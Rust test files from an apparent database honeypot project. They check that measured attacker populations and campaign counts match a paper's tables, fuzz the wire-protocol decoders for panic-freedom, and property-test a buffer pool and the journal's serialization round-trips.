    let rows = tables::logins_by_country(&low, &result.geo);
    assert_eq!(rows[0].country, "RU", "Russia tops Table 5");
    // driven by a handful of IPs, not a broad population (§5: 4 heavies)
    assert!(rows[0].ips_with_logins <= 12, "{}", rows[0].ips_with_logins);
    // the heavies live in one AS: AS208091
    let asn_rows = tables::asn_table(&low, &result.geo);
    let heavy = asn_rows.iter().find(|r| r.asn == 208091).expect("AS208091");
    assert!(
        heavy.logins as f64 > 0.8 * rows[0].logins as f64,
        "AS208091 drives the Russian volume"
    );
}

#[tokio::test]
async fn scanning_population_shape() {
    // §5: US-heavy scanning, large institutional share, ~43% single-day.
    let result = shared().await;
    let low = low_view(result);
    let scan = tables::scanning_summary(&low, &result.geo);
    let (top_country, top_n) = &scan.country_counts[0];
    assert_eq!(top_country, "US");
    let us_share = *top_n as f64 / scan.unique_ips as f64;
    assert!((0.35..0.75).contains(&us_share), "US share {us_share:.2}");
    let inst_share = scan.institutional_ips as f64 / scan.unique_ips as f64;
    assert!(
        (0.25..0.60).contains(&inst_share),
        "institutional {inst_share:.2}"
    );
    let retention = retention_days(&low, None, EXPERIMENT_START);
    let single = single_day_fraction(&retention);
    assert!((0.30..0.60).contains(&single), "single-day {single:.2}");
}

#[tokio::test]
async fn hourly_series_is_steady_with_new_client_decay() {
    // Figure 2: steady hourly flow; cumulative-new keeps growing.
    let low = low_view(shared().await);
    let series = hourly_series(&low, None, EXPERIMENT_START, 480);
    assert!(series.mean_clients_per_hour() > 0.5);
    let cumulative: Vec<usize> = series
        .buckets
        .iter()
        .map(|b| b.cumulative_clients)
        .collect();
    assert!(cumulative.windows(2).all(|w| w[0] <= w[1]));
    let first_half_new: usize = series.buckets[..240].iter().map(|b| b.new_clients).sum();
    let second_half_new: usize = series.buckets[240..].iter().map(|b| b.new_clients).sum();
    // arrivals roughly uniform: neither half empty
    assert!(first_half_new > 0 && second_half_new > 0);
}

#[tokio::test]
async fn table8_family_ordering_and_classes() {
    // Table 8: PG sees the most sources; every family has all three classes;
    // exploiting is the smallest class everywhere.
    let med_high = med_high_view(shared().await);
    let u = upset(&med_high, &MED_HIGH_FAMILIES);
    let pg = u.set_sizes[&Dbms::Postgres];
    for dbms in [Dbms::Elastic, Dbms::MongoDb, Dbms::Redis] {
        assert!(
            pg >= u.set_sizes[&dbms],
            "PostgreSQL should see the most sources"
        );
    }
    // most sources touch exactly one family (Figure 4)
    assert!(u.exclusive_total() > u.multi_total());

    for dbms in MED_HIGH_FAMILIES {
        let counts = ClassCounts::from_profiles(classify_sources(&med_high, Some(dbms)).values());
        assert!(counts.scanning > 0, "{dbms:?} scanning");
        assert!(counts.scouting > 0, "{dbms:?} scouting");
        assert!(
            counts.exploiting < counts.total() / 2,
            "{dbms:?} exploiting is a minority class"
        );
    }
    // exploiting ordering: PG > MongoDB > Redis > Elastic (222/62/38/2).
    // Pinned tiny campaigns (Lucifer = 2 IPs at any scale) make the low end
    // tie-prone at small scales, so the tail comparisons are >=.
    let exploit =
        |d| ClassCounts::from_profiles(classify_sources(&med_high, Some(d)).values()).exploiting;
    assert!(exploit(Dbms::Postgres) > exploit(Dbms::MongoDb));
    assert!(exploit(Dbms::MongoDb) >= exploit(Dbms::Elastic));
    assert!(exploit(Dbms::Redis) >= exploit(Dbms::Elastic));
}

#[tokio::test]
async fn table9_campaigns_present_with_expected_ratios() {
    let med_high = med_high_view(shared().await);
    let count = |dbms, tag: CampaignTag| {
        tag_sources(&med_high, Some(dbms))
            .values()
            .filter(|tags| tags.contains(&tag))
            .count()
    };
    let kinsing = count(Dbms::Postgres, CampaignTag::Kinsing);
    let ransom = count(Dbms::MongoDb, CampaignTag::MongoRansom);
    let p2p = count(Dbms::Redis, CampaignTag::P2pInfect);
    let lucifer = count(Dbms::Elastic, CampaignTag::Lucifer);
    let rdp_pg = count(Dbms::Postgres, CampaignTag::RdpScan);
    assert!(kinsing > 0 && ransom > 0 && p2p > 0 && lucifer > 0 && rdp_pg > 0);
    // paper ratios: Kinsing 196 > RDP-on-PG 164 > ransom 62 > p2pinfect 35
    // > lucifer 2 (lucifer is pinned at 2, so the last comparison is >=)
    assert!(kinsing >= rdp_pg, "kinsing {kinsing} vs rdp {rdp_pg}");
    assert!(rdp_pg > ransom, "rdp {rdp_pg} vs ransom {ransom}");
    assert!(ransom >= p2p, "ransom {ransom} vs p2p {p2p}");
    assert!(p2p >= lucifer, "p2p {p2p} vs lucifer {lucifer}");
}

#[tokio::test]
async fn clustering_collapses_campaigns() {
    // Table 8: thousands of sources reduce to tens of clusters.
    let med_high = med_high_view(shared().await);
    for dbms in MED_HIGH_FAMILIES {
        let profiles = classify_sources(&med_high, Some(dbms));
        let mut clusters = cluster_sources(&med_high, Some(dbms), 0.05);
        refine_by_behavior(&mut clusters, &profiles);
        let sources = clusters.assignments.len();
        assert!(
            clusters.num_clusters * 3 <= sources.max(3),
            "{dbms:?}: {} clusters for {} sources",
            clusters.num_clusters,
            sources
        );
        assert!(clusters.num_clusters >= 2, "{dbms:?} degenerate clustering");
    }
}

#[tokio::test]
async fn exploiters_concentrate_in_hosting_ases() {
    // Table 11: hosting dominates exploitation; security ASes never exploit.
    let result = shared().await;
    let med_high = med_high_view(result);
    let t11 = tables::astype_behavior(&med_high, &result.geo, &MED_HIGH_FAMILIES);
    use decoy_databases::analysis::classify::Behavior;
    use decoy_databases::geo::AsType;
    let exploiting = |t: AsType| {
        t11.get(&t)
            .and_then(|m| m.get(&Behavior::Exploiting))
            .copied()
            .unwrap_or(0)
    };
    let hosting = exploiting(AsType::Hosting);
    assert!(hosting > 0);
    assert!(hosting >= exploiting(AsType::Telecom));
    assert_eq!(
        exploiting(AsType::Security),
        0,
        "security ASes never exploit"
    );
}
