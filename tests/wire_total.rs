//! Totality harness for the attacker-facing byte path.
//!
//! Every `decoy-wire` decoder must return `Ok` or `Err` — never panic — on
//! arbitrary bytes. This is the fuzz half of the panic-freedom audit
//! (`decoy-xtask lint` is the static half): a deterministic, seeded mutator
//! from `decoy-fuzz` produces 10 000 hostile variants per protocol from two
//! seed pools, the malformed-frame corpus in `tests/corpus/<protocol>/`
//! (truncated header, zero length, maximal declared length, wrong magic,
//! mid-frame EOF) and golden frames produced by each codec's own encoder.
//!
//! Failures are reproducible: the mutator seed is fixed per protocol, so a
//! failing iteration number plus this file pins the exact input. CI smoke
//! runs set `DECOY_FUZZ_ITERS` to a reduced count.

use bytes::BytesMut;
use decoy_fuzz::{iterations, load_corpus, Mutator};
use decoy_net::codec::Codec;
use decoy_wire::http::{HttpClientCodec, HttpRequest, HttpResponse, HttpServerCodec};
use decoy_wire::mongo::bson::Document;
use decoy_wire::mongo::{MongoCodec, MongoMessage};
use decoy_wire::mysql::{MySqlCodec, MySqlPacket};
use decoy_wire::pgwire::{BackendMessage, FrontendMessage, PgClientCodec, PgServerCodec};
use decoy_wire::resp::{RespCodec, RespValue};
use decoy_wire::tds::{TdsCodec, TdsPacket};
use std::panic::{catch_unwind, AssertUnwindSafe};
use std::path::Path;

/// Load the malformed-frame corpus for `proto`, asserting the five
/// canonical shapes are present.
fn corpus(proto: &str) -> Vec<Vec<u8>> {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/corpus")
        .join(proto);
    let seeds = load_corpus(&dir).unwrap_or_else(|e| panic!("corpus {proto}: {e}"));
    assert!(
        seeds.len() >= 5,
        "{proto}: corpus must cover truncated_header, zero_length, max_length, \
         wrong_magic and midframe_eof"
    );
    seeds
}

/// Encode golden frames through a codec's own encoder; these seed the
/// mutator with byte sequences that are *almost* valid.
fn encoded<C: Codec>(codec: &mut C, frames: &[C::Out]) -> Vec<Vec<u8>> {
    frames
        .iter()
        .map(|f| {
            let mut buf = BytesMut::new();
            codec.encode(f, &mut buf).expect("golden frame encodes");
            buf.to_vec()
        })
        .collect()
}

/// Feed `iterations(10_000)` mutated inputs to fresh codecs built by `mk`,
/// draining each input until the codec stops producing frames. Any panic
/// fails the test with the iteration number and the exact input bytes.
fn assert_decoder_total<C, F>(proto: &str, seed: u64, seeds: &[Vec<u8>], mk: F)
where
    C: Codec,
    F: Fn() -> C,
{
    let iters = iterations(10_000);
    let mut mutator = Mutator::new(seed);
    for i in 0..iters {
        let input = mutator.mutate(seeds);
        let outcome = catch_unwind(AssertUnwindSafe(|| {
            let mut codec = mk();
            let mut buf = BytesMut::from(&input[..]);
            // bounded drain: stop on Err, on Ok(None), or after 64 frames
            for _ in 0..64 {
                match codec.decode(&mut buf) {
                    Ok(Some(_)) if !buf.is_empty() => continue,
                    _ => break,
                }
            }
        }));
        assert!(
            outcome.is_ok(),
            "{proto}: decoder panicked on iteration {i} (seed {seed:#x}); input: {}",
            input.iter().map(|b| format!("{b:02x}")).collect::<String>()
        );
    }
}

#[test]
fn pgwire_decoders_are_total() {
    let golden = encoded(
        &mut PgClientCodec::new(),
        &[
            FrontendMessage::SslRequest,
            FrontendMessage::Startup {
                params: vec![
                    ("user".into(), "sa".into()),
                    ("database".into(), "postgres".into()),
                ],
            },
            FrontendMessage::Password("123456".into()),
            FrontendMessage::Query("SELECT version();".into()),
            FrontendMessage::Terminate,
        ],
    );
    let mut seeds = corpus("pgwire");
    seeds.extend(golden);
    assert_decoder_total("pgwire/server", 0xD0C0_0001, &seeds, PgServerCodec::new);
    // the client side parses honeypot replies; same wall applies
    let backend = encoded(
        &mut PgServerCodec::new(),
        &[
            BackendMessage::AuthenticationOk,
            BackendMessage::AuthenticationCleartextPassword,
        ],
    );
    let mut seeds = corpus("pgwire");
    seeds.extend(backend);
    assert_decoder_total("pgwire/client", 0xD0C0_0002, &seeds, PgClientCodec::new);
}

#[test]
fn mysql_decoder_is_total() {
    let golden = encoded(
        &mut MySqlCodec,
        &[
            MySqlPacket {
                seq: 0,
                payload: vec![0x0a, b'8', b'.', b'0', 0x00].into(),
            },
            MySqlPacket {
                seq: 1,
                payload: b"\x03SELECT @@version".to_vec().into(),
            },
        ],
    );
    let mut seeds = corpus("mysql");
    seeds.extend(golden);
    assert_decoder_total("mysql", 0xD0C0_0003, &seeds, || MySqlCodec);
}

#[test]
fn resp_decoders_are_total() {
    let golden = encoded(
        &mut RespCodec::server(),
        &[
            RespValue::Simple("OK".into()),
            RespValue::Integer(42),
            RespValue::bulk("hello"),
            RespValue::NullBulk,
            RespValue::Array(vec![
                RespValue::bulk("CONFIG"),
                RespValue::bulk("GET"),
                RespValue::bulk("dir"),
            ]),
        ],
    );
    let mut seeds = corpus("resp");
    seeds.extend(golden);
    assert_decoder_total("resp/server", 0xD0C0_0004, &seeds, RespCodec::server);
    assert_decoder_total("resp/client", 0xD0C0_0005, &seeds, RespCodec::client);
}

#[test]
fn tds_decoder_is_total() {
    let golden = encoded(
        &mut TdsCodec,
        &[
            TdsPacket::eom(0x12, vec![0x00, 0x00, 0x1a, 0x00, 0x06, 0xff]),
            TdsPacket::eom(0x01, b"S\0E\0L\0E\0C\0T\0 \0@\0@\0".to_vec()),
        ],
    );
    let mut seeds = corpus("tds");
    seeds.extend(golden);
    assert_decoder_total("tds", 0xD0C0_0006, &seeds, || TdsCodec);
}

#[test]
fn mongo_decoder_is_total() {
    let mut hello = Document::new();
    hello.insert("hello", 1.0f64);
    hello.insert("$db", "admin");
    let mut find = Document::new();
    find.insert("find", "customers");
    find.insert("$db", "app");
    let golden = encoded(
        &mut MongoCodec,
        &[MongoMessage::msg(1, hello), MongoMessage::msg(2, find)],
    );
    let mut seeds = corpus("mongo");
    seeds.extend(golden);
    assert_decoder_total("mongo", 0xD0C0_0007, &seeds, || MongoCodec);
}

#[test]
fn http_decoders_are_total() {
    let golden = encoded(
        &mut HttpClientCodec,
        &[
            HttpRequest::new("GET", "/"),
            HttpRequest::new("POST", "/_search").with_body(
                "application/json",
                br#"{"query":{"match_all":{}}}"#.to_vec(),
            ),
        ],
    );
    let mut seeds = corpus("http");
    seeds.extend(golden);
    assert_decoder_total("http/server", 0xD0C0_0008, &seeds, || HttpServerCodec);
    let responses = encoded(
        &mut HttpServerCodec,
        &[HttpResponse::json(200, r#"{"ok":true}"#)],
    );
    let mut seeds = corpus("http");
    seeds.extend(responses);
    assert_decoder_total("http/client", 0xD0C0_0009, &seeds, || HttpClientCodec);
}

/// The corpus itself must already be handled without mutation: every file
/// decodes to `Ok` or `Err` directly.
#[test]
fn raw_corpus_never_panics() {
    for proto in ["pgwire", "mysql", "resp", "tds", "mongo", "http"] {
        for input in corpus(proto) {
            let outcome = catch_unwind(AssertUnwindSafe(|| {
                let mut buf = BytesMut::from(&input[..]);
                match proto {
                    "pgwire" => {
                        let _ = PgServerCodec::new().decode(&mut buf);
                    }
                    "mysql" => {
                        let _ = MySqlCodec.decode(&mut buf);
                    }
                    "resp" => {
                        let _ = RespCodec::server().decode(&mut buf);
                    }
                    "tds" => {
                        let _ = TdsCodec.decode(&mut buf);
                    }
                    "mongo" => {
                        let _ = MongoCodec.decode(&mut buf);
                    }
                    _ => {
                        let _ = HttpServerCodec.decode(&mut buf);
                    }
                }
            }));
            assert!(outcome.is_ok(), "{proto}: corpus file decode panicked");
        }
    }
}
