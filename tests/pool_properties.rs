//! Property tests for the wire-path buffer pool (`decoy-net::pool`,
//! DESIGN.md §11): for arbitrary interleavings of checkouts and restores,
//!
//! * a checked-out buffer always has the requested writable capacity and is
//!   empty — restored bytes can never leak into a later session's buffer,
//! * the per-class retention caps hold, so a checkout burst can never pin
//!   unbounded memory in the pool, and
//! * the same invariants survive real thread-level concurrency.

use bytes::BytesMut;
use decoy_databases::net::pool::{
    BufferPool, PooledBuf, LARGE_CLASS, LARGE_RETAIN, SMALL_CLASS, SMALL_RETAIN,
};
use proptest::prelude::*;

/// One step of the pool workout.
#[derive(Debug, Clone)]
enum Op {
    /// Check a buffer out, write `fill` bytes into it, and keep it live.
    Checkout { min_capacity: usize, fill: usize },
    /// Restore the oldest live buffer (no-op when none are live).
    Restore,
}

fn arb_op() -> impl Strategy<Value = Op> {
    prop_oneof![
        3 => (0usize..3 * LARGE_CLASS, 0usize..256)
            .prop_map(|(min_capacity, fill)| Op::Checkout { min_capacity, fill }),
        2 => Just(Op::Restore),
    ]
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(256))]

    /// Checkouts are always empty with enough capacity, dirty restores
    /// never leak, and the retention caps hold at every step.
    #[test]
    fn pool_invariants_hold_for_any_interleaving(ops in proptest::collection::vec(arb_op(), 0..64)) {
        let pool = BufferPool::new();
        let mut live: Vec<BytesMut> = Vec::new();
        for op in ops {
            match op {
                Op::Checkout { min_capacity, fill } => {
                    let mut buf = pool.checkout(min_capacity);
                    prop_assert!(buf.is_empty(), "checkout returned {} stale bytes", buf.len());
                    prop_assert!(
                        buf.capacity() >= min_capacity,
                        "asked for {min_capacity}, got {}",
                        buf.capacity()
                    );
                    // dirty the buffer so a retention bug would be visible
                    // as stale bytes on the next checkout
                    buf.extend_from_slice(&vec![0xAB; fill]);
                    live.push(buf);
                }
                Op::Restore => {
                    if !live.is_empty() {
                        pool.restore(live.remove(0));
                    }
                }
            }
            let stats = pool.stats();
            prop_assert!(stats.small <= SMALL_RETAIN, "small shelf over cap: {}", stats.small);
            prop_assert!(stats.large <= LARGE_RETAIN, "large shelf over cap: {}", stats.large);
        }
    }

    /// Guards restore on drop; a drained guard sequence leaves every
    /// subsequent checkout empty regardless of what was written.
    #[test]
    fn guards_never_leak_written_bytes(fills in proptest::collection::vec(1usize..2048, 1..16)) {
        let pool = BufferPool::global();
        for fill in &fills {
            let mut g = pool.checkout_guarded(*fill);
            g.extend_from_slice(&vec![0xCD; *fill]);
            // dropped here: restored (or discarded) via the guard
        }
        let fresh = pool.checkout(SMALL_CLASS);
        prop_assert!(fresh.is_empty());
        pool.restore(fresh);
    }

    /// A detached guard is inert: it never adds to any pool shelf.
    #[test]
    fn detached_guards_stay_out_of_the_pool(fill in 0usize..4096) {
        let pool = BufferPool::new();
        let before = pool.stats();
        let mut g = PooledBuf::detached(BytesMut::with_capacity(SMALL_CLASS));
        g.extend_from_slice(&vec![0xEF; fill]);
        drop(g);
        prop_assert_eq!(pool.stats(), before);
    }
}

/// The mutex-guarded shelves under genuine contention: many threads
/// hammering checkout/restore must preserve the caps and the cleared-on-
/// checkout contract.
#[test]
fn pool_survives_thread_contention() {
    static POOL: BufferPool = BufferPool::new();
    std::thread::scope(|scope| {
        for worker in 0..8 {
            scope.spawn(move || {
                for round in 0..200 {
                    let size = match (worker + round) % 3 {
                        0 => 64,
                        1 => SMALL_CLASS + 1,
                        _ => LARGE_CLASS + 1,
                    };
                    let mut buf = POOL.checkout(size);
                    assert!(buf.is_empty(), "stale bytes under contention");
                    assert!(buf.capacity() >= size);
                    buf.extend_from_slice(b"contended write");
                    POOL.restore(buf);
                }
            });
        }
    });
    let stats = POOL.stats();
    assert!(stats.small <= SMALL_RETAIN);
    assert!(stats.large <= LARGE_RETAIN);
}
