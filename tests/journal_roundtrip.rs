//! Serialization round-trip properties pinning the two persistence formats
//! to each other: for arbitrary event sequences covering every `EventKind`
//! variant (including fleet `Health` telemetry), both
//!
//! * the binary journal (`encode_segment` → `recover_events`), and
//! * the JSON-lines dataset export (`to_json_lines` → `from_json_lines`)
//!
//! must reproduce the input exactly. The journal property also holds for
//! any segmentation of the same stream — rotation points are an encoding
//! detail, not part of the data.

mod common;

use common::gen::arb_event;
use decoy_databases::store::journal::encode;
use decoy_databases::store::{recover_events, EventStore};
use proptest::prelude::*;

proptest! {
    #![proptest_config(ProptestConfig::with_cases(128))]

    /// Journal encode → decode is the identity, for any segment size.
    #[test]
    fn journal_roundtrip_is_identity(
        events in proptest::collection::vec(arb_event(), 0..40),
        per_seg in 1usize..9,
    ) {
        let segments: Vec<Vec<u8>> = events
            .chunks(per_seg)
            .enumerate()
            .map(|(i, chunk)| encode::encode_segment((i * per_seg) as u64, chunk))
            .collect();
        let (recovered, stats) = recover_events(segments);
        prop_assert_eq!(&recovered, &events);
        prop_assert!(stats.is_clean(), "clean input reported {}", stats.summary());
        prop_assert_eq!(stats.records_kept as usize, events.len());
    }

    /// JSON-lines export → import is the identity on the same inputs.
    #[test]
    fn json_lines_roundtrip_is_identity(
        events in proptest::collection::vec(arb_event(), 0..40),
    ) {
        let store = EventStore::new();
        store.log_many(events.clone());
        let text = store.to_json_lines();
        let imported = match EventStore::from_json_lines(&text) {
            Ok(s) => s,
            Err(e) => return Err(TestCaseError::fail(format!("import failed: {e}"))),
        };
        prop_assert!(imported.events_eq(&store), "JSON round-trip changed the events");
        prop_assert_eq!(imported.len(), events.len());
    }

    /// The two formats agree with each other: decoding a journal and
    /// importing the JSON export of the same store yield equal streams.
    #[test]
    fn journal_and_json_agree(
        events in proptest::collection::vec(arb_event(), 0..24),
    ) {
        let store = EventStore::new();
        store.log_many(events.clone());
        let via_json = match EventStore::from_json_lines(&store.to_json_lines()) {
            Ok(s) => s,
            Err(e) => return Err(TestCaseError::fail(format!("import failed: {e}"))),
        };
        let (via_journal, _) =
            recover_events(vec![encode::encode_segment(0, &events)]);
        let journal_store = EventStore::new();
        journal_store.log_many(via_journal.iter().cloned());
        prop_assert!(journal_store.events_eq(&via_json));
    }
}
